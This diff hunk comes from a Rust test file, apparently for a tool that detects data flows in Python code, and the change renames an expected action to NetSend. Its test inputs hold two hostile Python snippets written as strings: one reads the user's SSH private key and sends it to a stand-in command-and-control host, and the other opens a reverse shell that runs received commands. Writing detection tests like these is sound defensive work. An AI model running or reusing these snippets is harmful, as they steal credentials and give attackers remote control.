@@ -155,7 +155,7 @@ fn what_is_read_flows_to_where_it_is_sent() {
     let found = seen(
         "import os\nfrom urllib.request import Request, urlopen\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurlopen(Request('https://c2.example', data=d.encode()))\n",
     );
-    flows(&found, Action::FileRead, Action::NetFetch);
+    flows(&found, Action::FileRead, Action::NetSend);
     let found = seen(
         "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nimport subprocess\nwhile True:\n  c = s.recv(1024)\n  s.send(subprocess.check_output(c, shell=True))\n",
     );
